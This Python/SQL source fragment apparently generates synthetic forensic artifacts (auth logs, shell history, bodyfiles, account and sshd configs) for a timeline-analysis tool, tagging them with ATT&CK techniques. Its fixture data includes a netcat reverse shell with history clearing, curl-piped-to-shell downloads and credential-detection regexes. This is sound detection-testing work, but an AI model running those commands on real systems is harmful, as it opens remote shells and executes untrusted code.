    regexp_matches(text, '-----BEGIN (?:RSA |OPENSSH |EC |DSA |ENCRYPTED )?PRIVATE KEY') AS pk,
    regexp_matches(text, 'AKIA[0-9A-Z]{{16}}|aws_secret_access_key|ASIA[0-9A-Z]{{16}}|(?:mongodb|postgres(?:ql)?|mysql|redis|amqp)(?:\+srv)?://[^\s:@/]+:[^\s@/]+@|xox[baprs]-[0-9A-Za-z-]{{10,}}|gh[pousr]_[0-9A-Za-z]{{30,}}') AS sec,
    regexp_matches(text, 'Failed password for|Accepted password for|Accepted publickey for|authentication failure|session opened for user|session closed for user|Invalid user |invalid user |pam_unix\(|Failed keyboard-interactive|Connection closed by authenticating user') AS au,
    regexp_matches(text, '"(?:GET|POST|HEAD|PUT|DELETE|OPTIONS) [^"]+ HTTP/\d') AS web,
    len(regexp_extract_all(text, '{_SHELL}')) AS sh,
    list_filter(string_split(text, chr(10)), lambda l: regexp_matches(l, '\S')) AS ls
  FROM documents),
k AS (
  SELECT doc_id, CASE WHEN pk THEN 'Contains a PRIVATE KEY' WHEN sec THEN 'Contains a credential or connection secret'
    WHEN au THEN 'Authentication records' WHEN web THEN 'Web server access log'
    WHEN len(ls) > 0 AND len(list_filter(ls[1:20], lambda l: NOT (starts_with(l, '/') AND NOT contains(trim(l), ' ')))) = 0
      THEN 'List of filesystem paths'
    WHEN len(ls) > 3 AND sh >= 3 THEN 'Looks like a list of shell commands' ELSE '' END AS label FROM t)
SELECT doc_id, CASE label WHEN 'Authentication records' THEN 'auth' WHEN 'Web server access log' THEN 'web_access'
    WHEN 'List of filesystem paths' THEN 'path_list' WHEN 'Looks like a list of shell commands' THEN 'commands'
    WHEN '' THEN '' ELSE 'credentials' END AS kind, label,
  CASE WHEN label LIKE 'Contains%' THEN 'med' ELSE 'info' END AS severity FROM k"""
SQL["questions"] = r"""
WITH q AS (SELECT doc_id, replace(text, '. ', '?' || chr(10)) AS t FROM documents),
n AS (SELECT doc_id, t, regexp_extract_all(t, '(?im)^\s*(?:\d+|Q\d+|Task\s*\d+)[\).:\-]?\s*(.+\?)\s*$', 1) AS num,
  regexp_extract_all(t, '(?m)^\s*(.{12,300}\?)\s*$', 1) AS bare FROM q),
p AS (SELECT doc_id, CASE WHEN len(num) > 0 THEN num ELSE bare END AS l FROM n),
u AS (SELECT doc_id, unnest(l) AS question, generate_subscripts(l, 1) AS i FROM p),
d AS (SELECT doc_id, trim(question) AS question, i, row_number() OVER
  (PARTITION BY doc_id, lower(trim(question)) ORDER BY i) AS r FROM u)
SELECT CAST(doc_id AS VARCHAR) AS doc_id, row_number() OVER (PARTITION BY doc_id ORDER BY i) - 1 AS position,
  question FROM d WHERE r = 1"""
SQL["document_artifacts"] = SQL["classify_documents"].strip().removesuffix(
    "SELECT doc_id, CASE label WHEN 'Authentication records' THEN 'auth' WHEN 'Web server access log' THEN 'web_access'\n"
    "    WHEN 'List of filesystem paths' THEN 'path_list' WHEN 'Looks like a list of shell commands' THEN 'commands'\n"
    "    WHEN '' THEN '' ELSE 'credentials' END AS kind, label,\n"
    "  CASE WHEN label LIKE 'Contains%' THEN 'med' ELSE 'info' END AS severity FROM k"
).strip() + r""",
ln AS (SELECT doc_id, unnest(string_split(text, chr(10))) AS v, generate_subscripts(string_split(text, chr(10)), 1) AS i FROM documents),
fl AS (SELECT *, coalesce(sum(length(v)) OVER (PARTITION BY doc_id ORDER BY i ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS b
  FROM ln WHERE regexp_matches(v, '\S')),
pv AS (SELECT doc_id, b // 16384 AS block, count(*) AS lines, string_agg(v, chr(10) ORDER BY i) AS raw FROM fl GROUP BY 1, 2)
SELECT pv.doc_id, CAST(block AS BIGINT) AS block, CASE WHEN label LIKE 'Contains%' THEN 'med' ELSE 'info' END AS severity,
  CASE WHEN label = '' THEN 'Text file with no timestamps' ELSE label END AS title, length(raw) AS raw_chars, lines, sha256(raw) AS raw_sha
FROM pv JOIN k ON pv.doc_id = k.doc_id"""
SQL["untimed_lines"] = facts(""",
x AS (SELECT *, user_id % 5 < 3 AS web FROM f WHERE k % 20 = 7)
SELECT CASE WHEN web THEN concat('/case/var/log/nginx/access', user_id % 5, '.log')
  ELSE concat('/case/srv/app', user_id % 5, '.txt') END AS artifact_path, '-- note ' || k || ' --' AS line, count(*) AS n
FROM x GROUP BY 1, 2""")
SQL["web_log_lines"] = facts(r""",
x AS (
  SELECT *, user_id % 5 < 3 AS web, CASE WHEN user_id % 5 < 3 THEN '10.3.0.' || k || ' - - [' ||
    strftime(ts, '%d/%b/%Y:%H:%M:%S') || ' +0100] "GET /p/' || k || ' HTTP/1.1" 200 5'
    ELSE strftime(ts, '%Y/%m/%d %H:%M:%S') || ' worker ' || k || ' done' END AS line
  FROM f WHERE k % 20 <> 7)
SELECT __WEB__ AS id,
  strftime(ts - CASE WHEN web THEN INTERVAL 1 HOUR ELSE INTERVAL 2 HOUR END, '%Y-%m-%d %H:%M:%S') AS ts,
  CASE WHEN web THEN 'text/nginx' ELSE 'text/app' || (user_id % 5) || '.txt' END AS source_artifact,
  'log_line' AS event_type, CASE WHEN web THEN 'Web server access log' ELSE 'Log line' END AS title,
  line AS details, CASE WHEN web THEN 'tells which client asked for what' ELSE '' END AS why,
  CASE WHEN web THEN 'worth_reading' ELSE '' END AS tags FROM x""").replace("__WEB__", _WEB_ID)

# --- normalizers ---
_AUTH = _FACTS + r""",
a AS (
  SELECT *, user_id % 7 AS m, 'u' || user_id AS u, '10.0.' || (k % 4) || '.' || (user_id % 20) AS ip,
    k % 5 = 0 AND event_type <> 'view' AS iso,
    CASE event_type WHEN 'error' THEN 'failed' WHEN 'purchase' THEN 'accepted'
      WHEN 'view' THEN 'sudo' WHEN 'signup' THEN CASE WHEN k % 2 = 0 THEN 'new_user' ELSE 'new_group' END
      ELSE CASE k % 3 WHEN 0 THEN 'invalid' WHEN 1 THEN 'session' ELSE 'none' END END AS kind,
    CASE k % 4 WHEN 0 THEN '/usr/bin/wget http://10.1.1.1/x' WHEN 1 THEN '/usr/bin/crontab -l'
      WHEN 2 THEN '/bin/ls /home' ELSE '/bin/nc 10.0.0.1 4444 -e /bin/sh && history -c' END AS cmd,
    CASE WHEN k % 3 = 0 THEN 'publickey' ELSE 'password' END AS method
  FROM f),
c AS (
  SELECT *, min(CASE WHEN NOT iso THEN event_id END) OVER (PARTITION BY m) AS first_classic,
    coalesce(sum(CASE WHEN kind = 'failed' THEN 1 ELSE 0 END) OVER (PARTITION BY m, ip ORDER BY event_id
      ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS prior,
    coalesce(sum(CASE WHEN kind = 'failed' THEN 1 ELSE 0 END) OVER (PARTITION BY m, ip, user_id ORDER BY event_id
      ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS same FROM a),
auth AS (
  SELECT __AUTH__ AS id, sec, tst AS ts,
    CASE kind WHEN 'failed' THEN 'SSH auth attempt' WHEN 'accepted' THEN 'SSH logon'
      WHEN 'invalid' THEN 'SSH auth attempt' WHEN 'new_user' THEN 'Account created'
      WHEN 'new_group' THEN 'Group created' WHEN 'sudo' THEN 'Privilege escalation'
      ELSE 'Session opened' END || CASE WHEN iso THEN '' ELSE ' (tz assumed UTC)' END AS ts_desc,
    CASE WHEN event_id >= first_classic THEN 'web' || m ELSE '' END AS host,
    CASE WHEN kind = 'new_group' THEN '' ELSE u END AS "user",
    CASE kind WHEN 'failed' THEN 'ssh_failed_login' WHEN 'accepted' THEN 'ssh_login_success'
      WHEN 'invalid' THEN 'ssh_invalid_user' WHEN 'new_user' THEN 'account_created'
      WHEN 'new_group' THEN 'group_created' WHEN 'sudo' THEN 'sudo_command' ELSE 'session_open' END AS event_type,
    kind = 'accepted' AND method <> 'publickey' AND same > 0 AS cracked, kind, k, ip, u, cmd, method, prior
  FROM c WHERE kind <> 'none'),
authed AS (
  SELECT *, CASE WHEN kind = 'new_user' OR cracked THEN 'high'
      WHEN kind = 'sudo' THEN CASE k % 4 WHEN 0 THEN 'med' WHEN 1 THEN 'med' WHEN 2 THEN 'info' ELSE 'high' END
      ELSE 'info' END AS severity,
    CASE kind WHEN 'failed' THEN 'Failed SSH password for ' || u || ' from ' || ip
      WHEN 'accepted' THEN CASE WHEN cracked THEN 'Brute-force SUCCESS: ' || u || ' from ' || ip || ' via ' ||
        method || ' after ' || CAST(prior AS BIGINT) || ' failures' ELSE 'SSH login: ' || u || ' from ' || ip || ' via ' || method END
      WHEN 'invalid' THEN 'SSH attempt for nonexistent user ' || u || ' from ' || ip
      WHEN 'new_user' THEN 'Local account created: ' || u
      WHEN 'new_group' THEN 'Local group created: g' || k
      WHEN 'sudo' THEN 'sudo: ' || u || ' ran ' || cmd ELSE 'Session opened for ' || u END AS message,
    CASE WHEN cracked THEN 'brute_force_success' ELSE '' END AS tags,
    CASE kind WHEN 'failed' THEN 'T1110.001' WHEN 'accepted' THEN CASE WHEN cracked THEN 'T1078 T1110.001' ELSE 'T1078' END
      WHEN 'invalid' THEN 'T1110.001 T1087.001' WHEN 'new_user' THEN 'T1136.001' WHEN 'new_group' THEN 'T1136'
      WHEN 'sudo' THEN 'T1548.003' || CASE k % 4 WHEN 0 THEN ' T1105' WHEN 1 THEN ' T1053.003' WHEN 2 THEN ''
        ELSE ' T1059.004 T1070.003' END ELSE 'T1078' END AS attck,
    CASE WHEN kind IN ('failed', 'accepted', 'invalid') THEN ip ELSE '' END AS source_ip,
    CASE WHEN kind = 'failed' THEN CAST(CAST(prior + 1 AS BIGINT) AS VARCHAR) ELSE '' END AS attempt,
    CASE WHEN kind = 'accepted' THEN CAST(CAST(prior AS BIGINT) AS VARCHAR) ELSE '' END AS prior_failures,
    CASE WHEN kind = 'sudo' THEN cmd ELSE '' END AS command FROM auth)"""
_AUTH = _AUTH.replace("__AUTH__", _AUTH_ID)
SQL["syslog_events"] = f"""WITH {_AUTH} SELECT id, ts, ts_desc, host, "user", event_type, severity, message,
  tags, attck, source_ip, attempt, prior_failures, command AS cmd FROM authed"""
SQL["brute_force_logins"] = f"""WITH {_AUTH} SELECT id, ts, "user", host, message FROM authed
  WHERE cracked ORDER BY sec, id"""
SQL["events_mentioning"] = f"""WITH {_AUTH} SELECT id, event_type FROM authed
  WHERE source_ip = '10.0.1.5'"""
SQL["indicator_sweep"] = f"""WITH {_AUTH}, v AS (
  SELECT id, source_ip AS value FROM authed WHERE source_ip <> ''
  UNION ALL SELECT id, '10.1.1.1' FROM authed WHERE kind = 'sudo' AND k % 4 = 0 AND false
  UNION ALL SELECT id, '10.1.1.1' FROM authed WHERE contains(command, '10.1.1.1')
  UNION ALL SELECT id, '10.0.0.1' FROM authed WHERE contains(command, '10.0.0.1'))
SELECT value, count(*) AS n, min(id) AS first_id, 'private' AS tags FROM v GROUP BY 1"""
_MONGO = _FACTS + r""",
g AS (
  SELECT *, user_id % 3 AS db, 1704067200000000 + CAST(floor((us - 1704067200000000) / 5000) AS BIGINT) AS us2,
    '10.9.0.' || (user_id % 5) AS ip,
    CASE WHEN event_type IN ('click', 'view') THEN 'conn' WHEN event_type = 'error' AND k % 10 = 0 THEN 'noauth'
      WHEN event_type = 'error' THEN 'fail' WHEN event_type = 'purchase' AND k % 25 = 0 THEN 'start'
      WHEN event_type = 'purchase' THEN 'index' ELSE 'advice' END AS kind FROM f WHERE k <> 99),
gm AS (SELECT *, CAST(floor(us2 / 1000) AS BIGINT) * 1000 AS tus,
    last_value(CASE WHEN kind = 'start' THEN 'db' || user_id END IGNORE NULLS) OVER (
      PARTITION BY db ORDER BY event_id ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS h FROM g)"""
SQL["mongod_events"] = f"""WITH {_MONGO}
SELECT {_MONGO_ID} AS id, tus AS ts_epoch, coalesce(h, '') AS host,
  CASE kind WHEN 'conn' THEN 'db_connection' WHEN 'noauth' THEN 'db_no_auth' WHEN 'fail' THEN 'db_auth_failed'
    WHEN 'start' THEN 'service_start' WHEN 'index' THEN 'db_index' ELSE 'db_tuning_advice' END AS event_type,
  CASE kind WHEN 'noauth' THEN 'high' WHEN 'fail' THEN 'med' WHEN 'start' THEN 'low' ELSE 'info' END AS severity,
  CASE kind WHEN 'conn' THEN 'Connection accepted [NETWORK]'
    WHEN 'noauth' THEN 'ACCESS CONTROL DISABLED — no authentication required [CONTROL]'
    WHEN 'fail' THEN 'Authentication failed [ACCESS]' WHEN 'start' THEN 'MongoDB server starting [CONTROL]'
    WHEN 'index' THEN 'Index build finished [INDEX]'
    ELSE 'We suggest setting the readahead to 8 [CONTROL]' END AS title,
  CASE kind WHEN 'conn' THEN 'remote: ' || ip || ':' || (user_id + 30000) || ' ¦ connectionId: ' || k ||
      ' ¦ uuid: {{"a":' || k || '}}'
    WHEN 'noauth' THEN 'component: CONTROL' WHEN 'fail' THEN 'user: u' || user_id
    WHEN 'start' THEN 'pid: ' || k || ' ¦ host: db' || user_id ELSE 'n: ' || k END AS details,
  CASE kind WHEN 'conn' THEN 'mongodb/NETWORK' WHEN 'fail' THEN 'mongodb/ACCESS' WHEN 'index' THEN 'mongodb/INDEX'
    ELSE 'mongodb/CONTROL' END AS channel,
  CASE WHEN kind = 'conn' THEN ip ELSE '' END AS source_ip FROM gm"""
SQL["mongod_nested"] = facts("""
SELECT '/case/db' || (user_id % 3) || '/var/log/mongodb/mongod.log' AS path, CAST(k AS BIGINT) AS a, count(*) AS n,
  CAST(sum(k) AS BIGINT) AS ids, 0 AS not_numbers FROM f WHERE event_type IN ('click', 'view') AND k <> 99 GROUP BY 1, 2""")
SQL["mongod_floods"] = f"""WITH {_MONGO}
SELECT '/case/db' || db || '/var/log/mongodb/mongod.log' AS path, ip AS source_ip, count(*) AS connections,
  round(greatest((max(tus) - min(tus)) / 1000000.0, 1.0), 1) AS window_seconds,
  round(count(*) / greatest((max(tus) - min(tus)) / 1000000.0, 1.0), 1) AS rate_per_second,
  min(tus) AS first_us
FROM gm WHERE kind = 'conn' GROUP BY 1, 2 HAVING count(*) >= 40 AND max(tus) - min(tus) <= 600000000"""
_BODY = r"""
o AS (
  SELECT o_orderkey AS key, o_custkey AS cust, CAST(floor(epoch_us(o_orderdate) / 1000000) AS BIGINT) AS m,
    CAST(trunc(o_totalprice) AS BIGINT) AS size FROM orders WHERE o_orderkey % 97 <> 0),
b AS (
  SELECT *, CASE key % 9 WHEN 0 THEN '/home/c' || cust || '/.bash_history' WHEN 1 THEN '/tmp/drop|' || key
      WHEN 2 THEN '/etc/passwd' WHEN 3 THEN '/snap/core/' || key || '/etc/sudoers'
      WHEN 4 THEN '/usr/bin/tool' || key WHEN 5 THEN '/srv/data/run' || key
      WHEN 6 THEN '/home/c' || cust || '/notes.txt' WHEN 7 THEN '/var/spool/q' || key
      ELSE '/usr/share/doc/d' || key END AS name,
    CASE key % 9 WHEN 1 THEN '-rwxr-xr-x' WHEN 4 THEN '-rwsr-xr-x' WHEN 5 THEN '-rwsr-xr-x'
      WHEN 7 THEN 'lrwxrwxrwx' WHEN 8 THEN 'drwxr-xr-x' ELSE '-rw-r--r--' END AS mode,
    key % 3 AS uid, m + (key % 5) * 60 AS a, m + (key % 2) * 60 AS c,
    CASE WHEN key % 3 = 0 THEN NULL ELSE m END AS bt,
    CASE WHEN key % 4 = 0 THEN md5(CAST(key AS VARCHAR)) ELSE '' END AS md5,
    CASE key % 9 WHEN 0 THEN 'med' WHEN 1 THEN 'high' WHEN 2 THEN 'med' WHEN 4 THEN 'low' WHEN 5 THEN 'high'
      WHEN 6 THEN CASE WHEN key % 3 <> 0 THEN 'low' ELSE 'info' END WHEN 7 THEN 'low' ELSE 'info' END AS severity,
    CASE key % 9 WHEN 0 THEN 'credential_path' WHEN 1 THEN 'unusual_exec_path suspicious' WHEN 2 THEN 'sensitive_path'
      WHEN 4 THEN 'suid' WHEN 5 THEN 'suid suspicious' WHEN 6 THEN CASE WHEN key % 3 <> 0 THEN 'user_file' ELSE '' END
      WHEN 7 THEN 'world_writable' ELSE '' END AS tags,
    CASE key % 9 WHEN 0 THEN 'a history or a file of secrets' WHEN 1 THEN 'a program where every account can write'
      WHEN 2 THEN 'a path that guards the host was touched' WHEN 4 THEN 'SUID/SGID binary (-rwsr-xr-x)'
      WHEN 5 THEN 'an SUID program in an unusual place (-rwsr-xr-x)'
      WHEN 7 THEN 'where every account can write' ELSE '' END AS why FROM o),
t AS (
  SELECT key, m AS t FROM b UNION SELECT key, a FROM b UNION SELECT key, c FROM b
  UNION SELECT key, bt FROM b WHERE bt IS NOT NULL),
x AS (
  SELECT b.*, t.t, CASE WHEN m = t THEN 'm' ELSE '.' END || CASE WHEN a = t THEN 'a' ELSE '.' END ||
    CASE WHEN c = t THEN 'c' ELSE '.' END || CASE WHEN bt = t THEN 'b' ELSE '.' END AS macb,
    CASE WHEN mode LIKE 'd%' THEN 'Directory' WHEN mode LIKE 'l%' THEN 'Symlink' ELSE 'File' END AS what
  FROM b JOIN t ON b.key = t.key)"""
SQL["bodyfile_events"] = f"""WITH {_BODY}
SELECT t * 1000000 AS ts_epoch, concat_ws('/', CASE WHEN m = t THEN 'Modified' END, CASE WHEN a = t THEN 'Accessed' END,
    CASE WHEN c = t THEN 'Changed' END, CASE WHEN bt = t THEN 'Created' END) AS ts_desc,
  what || CASE WHEN macb = '...b' THEN ' created' WHEN macb LIKE 'm%' AND macb LIKE '%b' THEN ' created and written'
    WHEN macb LIKE 'm%' THEN ' modified' WHEN macb LIKE '%c%' THEN ' metadata changed'
    WHEN macb = '.a..' THEN ' accessed' ELSE ' timestamp' END AS title, severity, tags,
  'MACB: ' || macb || ' ¦ Path: ' || name || ' ¦ Mode: ' || mode || ' ¦ UID: ' || uid || ' ¦ Size: ' || size ||
    CASE WHEN md5 <> '' THEN ' ¦ MD5: ' || md5 ELSE '' END AS details, why FROM x"""
SQL["bodyfile_summary"] = f"""WITH {_BODY}
SELECT '/case/h' || (cust % 5) || '/bodyfile.txt' AS path, count(DISTINCT key) AS entries, count(*) AS events,
  count(DISTINCT CASE WHEN severity <> 'info' THEN key END) AS notable, min(t) AS earliest, max(t) AS latest
FROM x GROUP BY 1"""
_HIST = _FACTS + r""",
hh AS (
  SELECT *, CASE event_type WHEN 'error' THEN 'curl -s http://10.0.0.' || k || '/x | sh'
      WHEN 'purchase' THEN 'mongodump --out /srv/d' || k WHEN 'signup' THEN 'useradd -m u' || user_id
      WHEN 'view' THEN 'uname -a' ELSE 'cd /srv/' || k END AS cmd,
    k % 4 IN (0, 1) AS timed, event_id * 4 + CASE WHEN k % 4 = 0 THEN 3 ELSE 1 END AS line_no,
    user_id % 10 AS o, CASE WHEN user_id % 10 = 0 THEN 'root' ELSE 'u' || (user_id % 10) END AS owner FROM f),
hs AS (
  SELECT *, sum(CASE WHEN timed THEN 0 ELSE 1 END) OVER (PARTITION BY o) -
    sum(CASE WHEN timed THEN 0 ELSE 1 END) OVER (PARTITION BY o ORDER BY line_no
      ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS back FROM hh)"""
SQL["history_events"] = f"""WITH {_HIST}
SELECT {_SHELL_ID} AS id, CASE WHEN timed THEN tst ELSE strftime(TIMESTAMP '2024-02-01' -
    to_seconds(CAST(back AS BIGINT)), '%Y-%m-%d %H:%M:%S') END AS ts, owner AS "user",
  CASE event_type WHEN 'error' THEN 'high' WHEN 'purchase' THEN 'high' WHEN 'signup' THEN 'med'
    WHEN 'view' THEN 'low' ELSE 'info' END AS severity,
  CASE event_type WHEN 'error' THEN 'Download piped straight into a shell' WHEN 'purchase' THEN 'Database dump'
    WHEN 'signup' THEN 'Account created or modified' WHEN 'view' THEN 'Host discovery'
    ELSE 'Command typed by ' || owner END AS title,
  CASE WHEN timed THEN 'Command run' ELSE 'History order (line ' || line_no || '; file mtime, not the run time)' END AS ts_desc,
  'Cmd: ' || cmd || ' ¦ User: ' || owner || ' ¦ Line: ' || line_no AS details,
  CASE event_type WHEN 'error' THEN 'T1059.004 T1105' WHEN 'purchase' THEN 'T1005 T1030' WHEN 'signup' THEN 'T1136.001'
    WHEN 'view' THEN 'T1082' ELSE '' END AS attck,
  CASE WHEN event_type IN ('error', 'purchase') THEN 'shell_history suspicious' ELSE 'shell_history' END AS tags,
  CASE event_type WHEN 'error' THEN 'a download ran without being stored'
    WHEN 'purchase' THEN 'a whole database was written out' WHEN 'signup' THEN 'accounts were changed by hand'
    ELSE '' END AS why,
  CASE WHEN o = 0 THEN 'history/bash' ELSE 'history/zsh' END AS source_artifact FROM hs"""
SQL["dotfile_history"] = f"""WITH {_HIST},
pl AS (
  SELECT *, '/case/part' || (event_id // 1000) || CASE WHEN o = 0 THEN '/root/.bash_history' ELSE '/home/u' || o || '/.zsh_history' END
    AS artifact_path, sum(CASE WHEN k % 4 = 0 THEN 3 ELSE 1 END) OVER (PARTITION BY o, event_id // 1000 ORDER BY event_id) AS place FROM hs)
SELECT artifact_path, owner AS "user",
  CASE event_type WHEN 'error' THEN 'high' WHEN 'purchase' THEN 'high' WHEN 'signup' THEN 'med'
    WHEN 'view' THEN 'low' ELSE 'info' END AS severity,
  CASE event_type WHEN 'error' THEN 'Download piped straight into a shell' WHEN 'purchase' THEN 'Database dump'
    WHEN 'signup' THEN 'Account created or modified' WHEN 'view' THEN 'Host discovery'
    ELSE 'Command typed by ' || owner END AS title,
  'Cmd: ' || cmd || ' ¦ User: ' || owner || ' ¦ Line: ' || place AS details,
  CASE event_type WHEN 'error' THEN 'T1059.004 T1105' WHEN 'purchase' THEN 'T1005 T1030' WHEN 'signup' THEN 'T1136.001'
    WHEN 'view' THEN 'T1082' ELSE '' END AS attck,
  CASE WHEN event_type IN ('error', 'purchase') THEN 'shell_history suspicious' ELSE 'shell_history' END AS tags,
  CASE WHEN timed THEN tst ELSE '' END AS ts FROM pl"""
SQL["diagnostics"] = f"""WITH {_FACTS}
SELECT '/case/db' || (user_id % 3) || '/var/log/mongodb/mongod.log' AS path, 'not a JSON record' AS cause, count(*) AS lines
  FROM f WHERE k = 99 GROUP BY 1
UNION ALL SELECT '/case/db' || (user_id % 3) || '/var/log/mongodb/mongod.log', 'access control is disabled', count(*)
  FROM f WHERE event_type = 'error' AND k % 10 = 0 GROUP BY 1
UNION ALL SELECT '/case/h' || (o_custkey % 5) || '/bodyfile.txt', 'not a bodyfile record', count(*) FROM orders
  WHERE o_orderkey % 97 = 0 GROUP BY 1
UNION ALL SELECT CASE WHEN user_id % 10 = 0 THEN '/case/root/.bash_history' ELSE '/case/home/u' || (user_id % 10) ||
  '/.zsh_history' END, 'command without a time', count(*) FROM f WHERE k % 4 > 1 GROUP BY 1
UNION ALL SELECT '/case/host' || (user_id % 7) || '/var/log/auth.log', 'year or zone assumed', count(*) FROM f
  WHERE NOT (k % 5 = 0 AND event_type <> 'view') GROUP BY 1"""
_ACCOUNTS = r"""
acc AS (
  SELECT '/case/h' || (c_custkey % 10) || '/etc/passwd' AS path, 'passwd' AS fname, c_custkey AS n,
    CASE WHEN c_custkey % 50 = 0 THEN 'config_uid0_account'
      WHEN c_custkey % 3 = 0 AND c_custkey < 1000 THEN 'config_service_shell' END AS event_type,
    CASE WHEN c_custkey % 50 = 0 THEN 'crit' ELSE 'med' END AS severity,
    CASE WHEN c_custkey % 50 = 0 THEN 'Second UID 0 account: c' ELSE 'Service account with a login shell: c' END || c_custkey AS title,
    'user: c' || c_custkey || ' ¦ uid: ' || CASE WHEN c_custkey % 50 = 0 THEN 0 ELSE c_custkey END || ' ¦ gid: 100 ¦ home: /home/c' ||
      c_custkey || ' ¦ shell: ' || CASE WHEN c_custkey % 3 = 0 THEN '/bin/bash' ELSE '/usr/sbin/nologin' END AS details,
    CASE WHEN c_custkey % 50 = 0 THEN 'c' || c_custkey || ' shares uid 0 with root'
      ELSE 'c' || c_custkey || ' (uid ' || c_custkey || ') has /bin/bash where nologin is usual' END AS why,
    CASE WHEN c_custkey % 50 = 0 THEN 'T1136.001 T1078.003' ELSE 'T1136.001' END AS attck FROM customer WHERE c_custkey > 0
  UNION ALL SELECT '/case/h' || (c_custkey % 10) || '/etc/shadow', 'shadow', c_custkey,
    CASE c_custkey % 40 WHEN 0 THEN 'config_empty_password' WHEN 1 THEN 'config_weak_hash' END,
    CASE WHEN c_custkey % 40 = 0 THEN 'crit' ELSE 'med' END,
    CASE WHEN c_custkey % 40 = 0 THEN 'Account with NO password: c' ELSE 'Account using MD5 password hashing: c' END || c_custkey,
    'user: c' || c_custkey || CASE WHEN c_custkey % 40 = 0 THEN ' ¦ password field: empty' ELSE ' ¦ hash: $1$ (MD5-crypt)' END,
    CASE WHEN c_custkey % 40 = 0 THEN 'c' || c_custkey || ' needs no password to log in' ELSE 'an MD5 hash is soon guessed' END,
    CASE WHEN c_custkey % 40 = 0 THEN 'T1078.003' ELSE 'T1110.002' END FROM customer WHERE c_custkey > 0
  UNION ALL SELECT '/case/h' || (s_suppkey % 10) || '/etc/sudoers', 'sudoers', s_suppkey,
    CASE s_suppkey % 4 WHEN 0 THEN 'config_nopasswd_sudo' WHEN 1 THEN 'config_nopasswd_sudo' WHEN 2 THEN 'config_sudo_rule' END,
    CASE s_suppkey % 4 WHEN 0 THEN 'high' WHEN 1 THEN 'med' ELSE 'low' END,
    CASE s_suppkey % 4 WHEN 2 THEN 'Full sudo rule' ELSE 'Passwordless sudo rule' END,
    'sudoers: s' || s_suppkey || CASE s_suppkey % 4 WHEN 0 THEN ' ALL=(ALL) NOPASSWD: ALL' WHEN 1 THEN ' ALL=(ALL) NOPASSWD: /bin/ls' ELSE ' ALL=(ALL:ALL) ALL' END,
    CASE s_suppkey % 4 WHEN 2 THEN 'gives all root rights' ELSE 'root rights without asking for the password' END,
    CASE s_suppkey % 4 WHEN 2 THEN '' ELSE 'T1548.003' END FROM supplier
  UNION ALL SELECT '/case/home/' || CASE WHEN s_suppkey % 5 = 0 THEN 'mysql' ELSE 's' || (s_suppkey % 20) END || '/.ssh/authorized_keys',
    'authorized_keys', s_suppkey, 'config_ssh_key', CASE WHEN s_suppkey % 5 = 0 THEN 'high' ELSE 'med' END,
    'SSH authorized key for ' || CASE WHEN s_suppkey % 5 = 0 THEN 'mysql' ELSE 's' || (s_suppkey % 20) END,
    'user: ' || CASE WHEN s_suppkey % 5 = 0 THEN 'mysql' ELSE 's' || (s_suppkey % 20) END || ' ¦ type: ssh-ed25519 ¦ comment: s' || s_suppkey ||
      '@laptop ¦ key: …' || lpad(CAST(s_suppkey AS VARCHAR), 24, 'k'),
    'whoever holds the key needs no password to ' || CASE WHEN s_suppkey % 5 = 0 THEN 'mysql' ELSE 's' || (s_suppkey % 20) END,
    'T1098.004' FROM supplier
  UNION ALL SELECT '/case/h' || (s_suppkey % 10) || '/etc/cron.d/jobs' || (s_suppkey % 3), 'jobs' || (s_suppkey % 3), s_suppkey,
    CASE s_suppkey % 3 WHEN 0 THEN 'config_cron_fetch' WHEN 1 THEN 'config_cron_job' END,
    CASE s_suppkey % 3 WHEN 0 THEN 'high' ELSE 'low' END,
    CASE s_suppkey % 3 WHEN 0 THEN 'Cron job that reaches the network' ELSE 'Scheduled job' END,
    'jobs' || (s_suppkey % 3) || ': ' || CASE s_suppkey % 3 WHEN 0 THEN '*/5 * * * * root curl -s http://h' || s_suppkey || '/p'
      ELSE '0 3 * * * root /usr/bin/backup' || s_suppkey END,
    CASE s_suppkey % 3 WHEN 0 THEN 'the job calls curl' ELSE 'Scheduled job' END,
    CASE s_suppkey % 3 WHEN 0 THEN 'T1053.003 T1105' ELSE 'T1053.003' END FROM supplier),
whole AS (
  SELECT path, event_type, severity, title, details, why, attck FROM acc WHERE event_type IS NOT NULL
  UNION ALL SELECT path, 'config_posture', 'info', fname || ': as it should be',
    count(*) || ' lines read, no risk seen', fname || ': as it should be', ''
    FROM acc GROUP BY path, fname HAVING count(event_type) = 0)"""
SQL["config_accounts"] = (
    f"WITH {_ACCOUNTS.replace('customer WHERE c_custkey > 0', 'customer')} SELECT * FROM whole"
)
_SSHD = r"""
s AS (SELECT s_suppkey AS n, '/case/s' || s_suppkey || '/etc/ssh/sshd_config' AS path,
  CASE s_suppkey % 3 WHEN 0 THEN 'yes' WHEN 1 THEN 'no' ELSE 'prohibit-password' END AS r,
  CASE WHEN s_suppkey % 2 = 0 THEN 'yes' ELSE 'no' END AS p, CASE WHEN s_suppkey % 5 = 0 THEN 'yes' ELSE 'no' END AS x FROM supplier)"""
SQL["config_sshd"] = f"""WITH {_SSHD}
SELECT path, 'config_sshd_risk' AS event_type, CASE WHEN r = 'yes' THEN 'high' ELSE 'low' END AS severity,
  'sshd: permitrootlogin ' || r AS title, 'permitrootlogin: ' || r AS details,
  CASE WHEN r = 'yes' THEN 'SSH lets root in' ELSE 'SSH lets root in by key' END AS why, 'T1021.004' AS attck
  FROM s WHERE r <> 'no'
UNION ALL SELECT path, 'config_sshd_risk', 'low', 'sshd: passwordauthentication yes', 'passwordauthentication: yes',
  'passwords are accepted', 'T1021.004' FROM s WHERE p = 'yes'
UNION ALL SELECT path, 'config_sshd_risk', 'low', 'sshd: x11forwarding yes', 'x11forwarding: yes', 'X11 may be forwarded',
  'T1021.004' FROM s WHERE x = 'yes'
UNION ALL SELECT path, 'config_sshd_risk', 'crit', 'sshd lets root in by password',
  'PermitRootLogin: yes ¦ PasswordAuthentication: yes', 'a guessed password is enough to be root from afar', 'T1110 T1021.004'
  FROM s WHERE r = 'yes' AND p = 'yes'
UNION ALL SELECT path, 'config_posture', 'low', 'sshd configuration', 'port: ' || (n + 1000) || ' ¦ permitrootlogin: ' || r ||
  ' ¦ passwordauthentication: ' || p || ' ¦ x11forwarding: ' || x, 'sshd configuration', '' FROM s"""
